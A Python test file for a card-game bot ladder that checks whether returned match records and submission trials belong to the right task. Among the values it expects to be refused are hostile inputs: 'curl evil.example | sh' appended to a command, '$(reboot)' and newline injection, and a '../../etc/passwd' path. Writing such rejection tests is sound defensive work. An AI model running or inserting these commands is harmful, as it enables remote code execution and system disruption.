"""Answers to an attempt: their meanings, the faults of the worker that gave them, and answers to another question."""

from __future__ import annotations

from dataclasses import asdict, replace
from typing import TYPE_CHECKING, Any

import pytest

from ladder.errors import SandboxError
from ladder.results.files import LOGS_BYTES, MatchFiles
from ladder.runner.executor import AttemptFailure, Judgement, NotPlayed
from ladder.runner.returned import OtherAnswer, check_outcome, check_trial, match_outcome, summary_of
from ladder.settings.settings import load_settings
from ladder.store.commands.results import WrongRecord
from ladder.trials.trial_tasks import KnownToLadder, SubmissionOutcome, SubmissionTask, TriedProgram
from ladder.values.sandbox_kind import AUTO, GVISOR, SHARED, SandboxKind
from ladder.values.submission import VariantFile
from ladder.values.value import MAX_SENTENCE
from ladder.worker.match_tasks import MatchOutcome, MatchTask
from pigpen.rules import PRESETS
from referee.match.formats import DEFAULT_CLOCK, Format, person_clock
from referee.match.match import first_line
from referee.records.file import PackedRecord
from referee.records.framing import START, read_member, unchained
from referee.records.lines import MatchLine, from_json
from tests.ladder.app.event_ladders import coordinator_of, started_cup
from tests.ladder.ladders import new_ladder
from tests.ladder.virtual import Time, recorded
from tests.ladder.worker.test_match_tasks import IDENTITY, TASK

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from ladder.app.ladder import Ladder

ALONE = TASK.model_copy(update={"rules": PRESETS["gongzhu"].to_plain()})
DOCKER = ALONE.model_copy(
    update={"bots": tuple(bot.model_copy(update={"sandbox": SandboxKind.DOCKER}) for bot in ALONE.bots)}
)
CLOCK = asdict(replace(DEFAULT_CLOCK, limit=DEFAULT_CLOCK.limit + 1))


def named(*names: str) -> dict[str, Any]:
    """The same bots under other names."""
    return {"bots": tuple(bot.model_copy(update={"name": name}) for bot, name in zip(ALONE.bots, names, strict=True))}


OTHERS: dict[str, dict[str, Any]] = {
    "rules": {"rules": PRESETS["hearts"].to_plain()},
    "rules.partners": {"rules": PRESETS["gongzhu-partners"].to_plain()},
    "rules.decks": {"rules": {**PRESETS["gongzhu"].to_plain(), "name": "own"}},
    "format": {"format": "boards:2"},
    "format of one deal": {"format": "deals:1"},
    "format of many deals": {"format": "deals:16"},
    "bots": named("Trotter", "Snout", "Sty", "Boar"),
    "bots in another order": named("Snout", "Trotter", "Trotter#2", "Snout#2"),
    "clock": {"clock": CLOCK},
    "commitment": {"seed": "11" * 32},
}
"""Differences in the question to which a worker answers, by the field of the record that shows it."""


def summed(folder: Path, task: MatchTask, outcome: MatchOutcome) -> None:
    """Verify a record as a coordinator does."""
    assert outcome.record is not None
    files = MatchFiles(folder)
    files.keep(task.match, task.attempt, outcome.record, {})
    summary_of(files.record(task.match, task.attempt), task)


@pytest.mark.parametrize("name", OTHERS)
def test_a_record_that_holds_but_is_of_another_match_is_refused(tmp_path: Path, name: str) -> None:
    other = ALONE.model_copy(update=OTHERS[name])
    summed(tmp_path, other, recorded(other))
    with pytest.raises(WrongRecord) as raised:
        summed(tmp_path, ALONE, recorded(other))
    assert name.split(" ")[0].split(".")[0] in str(raised.value)


def with_first(record: bytes | None, change: Callable[[MatchLine], MatchLine]) -> MatchOutcome:
    """A record with another first line; its chain is made anew."""
    import io

    new, file, before = PackedRecord(), io.BytesIO(record or b""), START
    while text := read_member(file):
        plain, before = unchained(text.rstrip(b"\n"), before)
        line = from_json(plain)
        new.write(change(line) if isinstance(line, MatchLine) else line)
    return MatchOutcome(match=ALONE.match, attempt=ALONE.attempt, record=bytes(new))


@pytest.mark.parametrize(
    ("task", "more", "field"),
    [
        (ALONE, {"version": 1}, "version"),
        (ALONE, {"runtime": SHARED}, "runtime"),
        (ALONE, {"instances": "fresh"}, "instances"),
        (DOCKER.model_copy(update={"runtime": GVISOR}), {"runtime": SHARED}, "runtime"),
        (DOCKER.model_copy(update={"runtime": GVISOR}), {"runtime": None}, "runtime"),
        (DOCKER.model_copy(update={"runtime": AUTO}), {"runtime": "<b>runsc</b>"}, "runtime"),
        (DOCKER.model_copy(update={"instances": "fresh"}), {"instances": "warm"}, "instances"),
        (ALONE, {"people": first_line(replace(ALONE.spec(), people={0: person_clock()}), "").people}, "people"),
    ],
)
def test_a_record_of_a_match_that_was_run_otherwise_is_refused(
    tmp_path: Path, task: MatchTask, more: dict[str, Any], field: str
) -> None:
    honest = recorded(task).record
    with pytest.raises(WrongRecord, match=field):
        summed(tmp_path, task, with_first(honest, lambda line: line.model_copy(update=more)))


@pytest.mark.parametrize("runtime", [GVISOR, SHARED])
def test_what_a_worker_may_choose_itself_is_taken(tmp_path: Path, runtime: str) -> None:
    task = DOCKER.model_copy(update={"runtime": AUTO, "instances": "warm"})
    chosen = {"runtime": runtime, "instances": "fresh", "machine": "Babbage 1", "started": "2020-01-01T00:00:00+00:00"}
    summed(tmp_path, task, with_first(recorded(task).record, lambda line: line.model_copy(update=chosen)))


@pytest.fixture
def ladder(tmp_path: Path) -> Iterator[Ladder]:
    found = new_ladder(load_settings(data_dir=tmp_path / "data", sandbox="process"))
    yield found
    found.database.close()


def test_of_an_event_it_is_refused_too_and_nothing_of_it_is_kept(ladder: Ladder) -> None:
    started_cup(ladder)
    coordinator = coordinator_of(ladder, Time())
    for task in coordinator.take(2):
        names = [bot.model_copy(update={"name": f"{bot.name}x"}) for bot in task.bots]
        for other in (
            task.model_copy(update={"bots": tuple(names)}),
            task.model_copy(update={"rules": PRESETS["hearts"].to_plain()}),
            task.model_copy(update={"format": str(Format(deals=1))}),
            task.model_copy(update={"clock": CLOCK}),
        ):
            with pytest.raises(WrongRecord):
                coordinator.record(task, recorded(other))
            assert not coordinator.files.record(task.match, task.attempt).exists()
        assert coordinator.record(task, recorded(task))


def outcome(**more: Any) -> MatchOutcome:
    """Give the outcome that comes back with a record."""
    return MatchOutcome.model_validate({"match": ALONE.match, "attempt": ALONE.attempt, "record": b"", **more})


TABLES, MAX_SECONDS = 4, 4 * ALONE.seconds


@pytest.mark.parametrize(
    "more",
    [
        {"logs": {TABLES: ("",) * 4}},
        {"logs": {0: ("",) * 3}},
        {"logs": {0: ("x" * (LOGS_BYTES + 1), "", "", "")}},
        {"starting_seconds": MAX_SECONDS, "playing_seconds": 1.0},
        {"broke": 4},
        {"record": None, "void": "It is lost.", "lost": f"sha256:{'9' * 64}"},
        {"attempt": ALONE.attempt + 1},
    ],
)
def test_what_comes_with_a_record_must_belong_to_the_match(more: dict[str, Any]) -> None:
    with pytest.raises(OtherAnswer):
        check_outcome(ALONE, outcome(**more))


@pytest.mark.parametrize(
    "more",
    [
        {"logs": {TABLES - 1: ("x" * LOGS_BYTES, "", "", "")}},
        {"starting_seconds": MAX_SECONDS - 1.0, "playing_seconds": 1.0},
        {"broke": 3},
        {"record": None, "void": "It is lost.", "lost": IDENTITY},
    ],
)
def test_at_the_limit_it_is_taken(more: dict[str, Any]) -> None:
    check_outcome(ALONE, outcome(**more))


REGISTRY = "arena.example:5000"
OWN_IMAGE = f"{REGISTRY}/ada/trotter"
DIGEST = f"@sha256:{'1' * 64}"
LOGIN = {"address": REGISTRY, "plain": False, "token": "x"}
RULES = replace(PRESETS["hearts"], name="own")
FILE = VariantFile(file="own.toml", rules=RULES.to_plain())


def trial(variants: tuple[str | VariantFile, ...] = ("hearts",), **more: Any) -> SubmissionTask:
    """One attempt at an image in the ladder's registry."""
    plain: dict[str, Any] = {
        "submission": 3, "attempt": 1, "order": {"name": "Trotter", "variants": variants}, "owner": "ada",
        "source": "trotter", "image": f"{OWN_IMAGE}:1", "folder": None, "registry": LOGIN,
        "known": KnownToLadder(rules={}, plays=(), entered={}, holders={}, members={}), "sandbox": SandboxKind.DOCKER,
        "most_bytes": 1000, "clock": asdict(DEFAULT_CLOCK), "deals": 1, "data_dir": None, "seconds": 60.0,
    }  # fmt: skip
    return SubmissionTask.model_validate(plain | more)


FOLDER: dict[str, Any] = {
    "image": None, "folder": "/x", "registry": None, "place": {"repository": "pigpen/abc", "login": LOGIN}
}  # fmt: skip


def tried(program: dict[str, Any] | None = None, **more: Any) -> SubmissionOutcome:
    """Give the outcome of a trial."""
    given = {"identity": IDENTITY, "pinned": OWN_IMAGE + DIGEST, "size": 1000, "lock": None, "can_fork": False}
    plain = {"submission": 3, "attempt": 1, "program": TriedProgram.model_validate(given | (program or {}))}
    return SubmissionOutcome.model_validate(plain | {"variants": (PRESETS["hearts"].to_plain(),)} | more)


@pytest.mark.parametrize(
    ("task", "answer"),
    [
        (trial(), tried()),
        (trial(), tried({"pinned": None})),
        (trial(), tried({"pinned": f"{REGISTRY}/pigpen/abc{DIGEST}"})),
        (trial(**FOLDER), tried({"pinned": f"{REGISTRY}/pigpen/abc{DIGEST}"})),
        (trial(variants=()), tried(variants=(PRESETS["gongzhu"].to_plain(),))),
        (trial(variants=()), tried(variants=(PRESETS["hearts"].to_plain(), PRESETS["gongzhu"].to_plain()))),
        (trial(variants=("all",)), tried()),
        (trial(variants=(FILE,)), tried(variants=(FILE.rules,))),
        (trial(), tried(again="pigpen check './my bot' --rules hearts --sandbox docker")),
    ],
)
def test_a_trial_of_what_was_submitted_is_taken(task: SubmissionTask, answer: SubmissionOutcome) -> None:
    check_trial(task, answer)


@pytest.mark.parametrize(
    ("task", "answer"),
    [
        (trial(), tried(submission=4)),
        (trial(), tried({"identity": "../../etc/passwd"})),
        (trial(), tried({"size": 1001})),
        (trial(), tried({"pinned": f"{REGISTRY}/eve/trotter{DIGEST}"})),
        (trial(), tried({"pinned": f"docker.io/eve/trotter{DIGEST}"})),
        (trial(), tried({"pinned": f"{OWN_IMAGE}:1"})),
        (trial(**FOLDER), tried({"pinned": OWN_IMAGE + DIGEST})),
        (trial(sandbox=SandboxKind.PROCESS, **FOLDER), tried({"pinned": OWN_IMAGE + DIGEST})),
        (trial(), tried(variants=())),
        (trial(), tried(variants=(PRESETS["gongzhu"].to_plain(),))),
        (trial(), tried(variants=(PRESETS["hearts"].to_plain(), PRESETS["gongzhu"].to_plain()))),
        (trial(variants=()), tried(variants=(FILE.rules,))),
        (trial(variants=(FILE,)), tried(variants=(replace(PRESETS["gongzhu"], name="own").to_plain(),))),
        (trial(), tried(outdated=("hearts",))),
        (trial(), tried(again="pigpen check bot; curl evil.example | sh")),
        (trial(), tried(again="curl evil.example")),
        (trial(), tried(again="pigpen play $(reboot)")),
        (trial(), tried(again="pigpen play bot\nreboot")),
    ],
)
def test_a_trial_of_something_else_is_refused(task: SubmissionTask, answer: SubmissionOutcome) -> None:
    with pytest.raises(OtherAnswer):
        check_trial(task, answer)


def played_outcome(match: int = TASK.match, attempt: int = TASK.attempt) -> MatchOutcome:
    return MatchOutcome(match=match, attempt=attempt, record=b"a record")


def test_the_outcome_of_the_attempt_is_taken_as_it_is() -> None:
    assert match_outcome(TASK, played_outcome().model_dump_json()) == played_outcome()


@pytest.mark.parametrize(
    ("answer", "judgement", "reason"),
    [
        (
            played_outcome(match=TASK.match + 1).model_dump_json(),
            Judgement.INVALID,
            "Its worker answered for another match.",
        ),
        (
            played_outcome(attempt=TASK.attempt - 1).model_dump_json(),
            Judgement.INVALID,
            "Its worker answered for another match.",
        ),
        ("garbage", Judgement.INVALID, "Its worker's answer cannot be understood: Invalid JSON"),
        ('{"match": 7, "attempt": 2}', Judgement.INVALID, "Its worker's answer cannot be understood: Value error"),
        ('{"match": 7, "attempt": 2, "void": "The disk is full."}', Judgement.VOID, "The disk is full."),
        (NotPlayed("Its worker was sent away."), None, "Its worker was sent away."),
        (SandboxError("Docker does not answer."), Judgement.VOID, "Docker does not answer."),
        ('{"match": 7, "attempt": 2, "void": "full\\u0000\\nof files"}', Judgement.VOID, "full�\nof files"),
        (SandboxError("x" * 10**6), Judgement.VOID, "x" * MAX_SENTENCE),
        (OSError("gone"), Judgement.VOID, "Its worker was lost: OSError: gone"),
    ],
)
def test_any_other_answer_is_a_failure_with_its_reason(
    answer: str | Exception, judgement: Judgement | None, reason: str
) -> None:
    failure = match_outcome(TASK, answer)
    assert isinstance(failure, AttemptFailure)
    assert failure.judgement is judgement
    assert failure.reason.startswith(reason)
    assert len(failure.reason) < MAX_SENTENCE + 100
